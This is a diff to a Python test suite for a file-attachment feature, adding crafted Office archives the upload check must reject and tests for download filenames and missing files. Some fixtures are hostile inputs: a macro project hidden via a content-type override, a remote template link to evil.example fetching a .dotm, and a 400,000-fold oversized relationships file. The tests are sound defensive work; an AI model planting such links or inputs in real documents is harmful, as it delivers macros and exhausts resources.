@@ -25,6 +25,8 @@ from tests.factories.browser import signed_in
 from tests.factories.world import PDF, World
 
 TYPES = b'<?xml version="1.0"?><Types/>'
+MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm"/>'
 WORD = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>"}
 SHEET = {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"}
 
@@ -65,6 +67,9 @@ KINDS = [
     (zipped(SHEET | {"xl/VBAPROJECT.BIN": b"x"}), None),
     (zipped(WORD | {"word/embeddings/oleObject1.bin": b"x"}), None),
     (zipped(WORD | {"word/activeX/activeX1.xml": b"x"}), None),
+    (zipped(SHEET | {"[Content_Types].xml": MACRO_TYPES, "xl/a.bin": b"x"}), None),
+    (zipped(WORD | {"word/_rels/settings.xml.rels": TEMPLATE}), None),
+    (zipped(WORD | {"word/_rels/document.xml.rels": b"<x>" * 400_000}), None),
 ]
 
 
@@ -294,3 +299,19 @@ def test_a_download_is_an_attachment_in_a_sandbox(world: World) -> None:
     assert answer["X-Content-Type-Options"] == "nosniff"
     assert "sandbox" in answer["Content-Security-Policy"]
     assert "script-src" not in answer["Content-Security-Policy"]
+
+
+def test_a_file_is_offered_under_the_ending_of_its_kind(world: World) -> None:
+    attachment = attach(world, name="plan.html")
+    answer = signed_in(world.reporter()).get(f"/files/{attachment.pk}/")
+    assert 'filename="plan.html.pdf"' in answer["Content-Disposition"]
+    answer.close()
+    assert files.offered_name("图.JPEG", "image/jpeg") == "图.JPEG"
+
+
+def test_bytes_that_the_storage_has_lost_get_a_page_that_says_so(world: World) -> None:
+    attachment = attach(world)
+    attachment.file.storage.delete(attachment.file.name or "")
+    answer = signed_in(world.reporter()).get(f"/files/{attachment.pk}/")
+    assert answer.status_code == 503
+    assert "系统管理员" in answer.content.decode()
